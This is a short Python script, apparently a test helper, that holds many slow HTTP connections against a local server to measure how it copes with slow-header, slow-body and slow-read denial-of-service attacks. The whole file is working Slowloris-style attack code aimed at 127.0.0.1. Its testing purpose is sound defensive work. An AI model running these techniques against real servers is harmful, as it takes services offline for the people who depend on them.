"""An attack by many slow connections, in a process of its own so that it takes no time from who measures.

Prints `ready` when all of them hold, and goes on until it is killed. A connection that was closed is made anew.
"""

import asyncio
import contextlib
import socket
import sys

BEAT_SECONDS = 1.0
# Above what tollgate and most servers take for dead.
READ_BYTES = 512


async def slow_head(reader, writer):
    writer.write(b"GET /quick HTTP/1.1\r\nHost: a\r\nX-Slow: ")
    while True:
        await beat(reader, writer)


async def slow_body(reader, writer):
    writer.write(b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 10000\r\n\r\n")
    while True:
        await beat(reader, writer)


async def beat(reader, writer):
    writer.write(b"a")
    await writer.drain()
    # Whatever comes, an answer or the end, this connection is of no use any more.
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(reader.read(1), BEAT_SECONDS)
        raise ConnectionError


async def slow_reader(connection):
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, b"GET /mebibyte HTTP/1.1\r\nHost: a\r\n\r\n")
    while await loop.sock_recv(connection, READ_BYTES):
        await asyncio.sleep(BEAT_SECONDS)


async def hold(address, kind):
    while True:
        connection = socket.socket()
        connection.setblocking(False)
        # Before connecting, so that the window is small from the first byte on.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        writer = None
        try:
            await asyncio.get_running_loop().sock_connect(connection, address)
            if kind == "reader":
                await slow_reader(connection)
            else:
                reader, writer = await asyncio.open_connection(sock=connection)
                await (slow_head if kind == "head" else slow_body)(reader, writer)
        except OSError:
            pass
        finally:
            (writer or connection).close()
        await asyncio.sleep(0.1)


async def main(port, kind, count):
    attackers = [asyncio.create_task(hold(("127.0.0.1", port), kind)) for _ in range(count)]
    await asyncio.sleep(3 * BEAT_SECONDS)
    print("ready", flush=True)
    await asyncio.gather(*attackers)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2], int(sys.argv[3])))
